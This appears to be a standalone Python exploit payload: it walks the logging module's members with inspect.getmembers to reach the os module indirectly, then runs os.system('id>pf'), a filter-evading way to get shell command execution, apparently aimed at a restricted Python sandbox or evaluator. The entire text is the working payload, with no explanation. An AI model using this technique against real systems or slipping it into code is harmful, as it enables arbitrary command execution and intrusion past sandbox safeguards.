import inspect, logging
inspect.getmembers(logging, lambda v: inspect.ismodule(v) and v.__name__ == "os" and v.system("id>pf"))
